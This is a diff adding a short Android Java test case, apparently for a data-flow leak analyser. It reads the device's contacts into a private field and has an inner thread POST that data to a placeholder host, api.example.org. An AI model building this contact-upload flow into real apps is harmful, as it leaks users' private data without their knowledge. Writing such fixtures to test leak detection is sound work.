@@ -1,0 +1,45 @@
+// A private field of the outer class, read by an inner one through access$000.
+package cases.flow_accessor;
+
+import android.app.Activity;
+import android.database.Cursor;
+import android.os.Bundle;
+import android.provider.ContactsContract;
+import android.util.Log;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.HttpURLConnection;
+import java.net.URL;
+
+public final class Main extends Activity {
+    private String names;
+
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
+        rows.moveToFirst();
+        names = rows.getString(0);
+        new Thread(new Upload()).start();
+    }
+
+    private final class Upload implements Runnable {
+        @Override
+        public void run() {
+            try {
+                send(names.getBytes());
+            } catch (IOException e) {
+                Log.w("upload", "later");
+            }
+        }
+    }
+
+    static void send(byte[] body) throws IOException {
+        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
+        connection.setDoOutput(true);
+        OutputStream out = connection.getOutputStream();
+        out.write(body);
+        out.close();
+        connection.getInputStream().close();
+    }
+}
